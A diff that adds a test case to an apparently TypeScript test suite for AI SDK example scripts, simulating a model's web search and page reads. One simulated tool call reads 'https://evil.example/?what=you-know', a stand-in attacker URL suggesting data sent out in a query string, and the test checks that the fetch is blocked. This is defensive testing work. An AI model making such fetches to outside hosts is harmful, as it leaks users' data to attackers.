@@ -113,6 +113,28 @@ const CASES: Record<string, Case> = {
       expect(JSON.stringify(sent[2]?.json)).toContain('ai-sdk-provider-kimi-scripts');
     },
   },
+  'web-search.ts': {
+    answers: [
+      { toolCalls: [{ name: 'search', arguments: { query: 'node release' } }] },
+      {
+        toolCalls: [
+          { name: 'read', arguments: { url: 'https://nodejs.org/en/blog' } },
+          { name: 'read', arguments: { url: 'https://evil.example/?what=you-know' } },
+        ],
+      },
+      { text: 'Much is new (https://nodejs.org/en/blog).' },
+    ],
+    check({ stdout }) {
+      expect(stdout).toBe(
+        'search({"query":"node release"})\n' +
+          'read({"url":"https://nodejs.org/en/blog"})\nread({"url":"https://evil.example/?what=you-know"})\n' +
+          '  failed: Pages of evil.example may not be fetched here. Nothing was sent.\n' +
+          'Much is new (https://nodejs.org/en/blog).\n',
+      );
+      expect(simulator.counts).toMatchObject({ searches: 1, fetches: 1, chats: 3 });
+      expect(JSON.stringify(chats(simulator)[2]?.json)).toContain('The text of https://nodejs.org/en/blog.');
+    },
+  },
   'effort.ts': {
     check({ stdout }) {
       expect(stdout).toMatch(
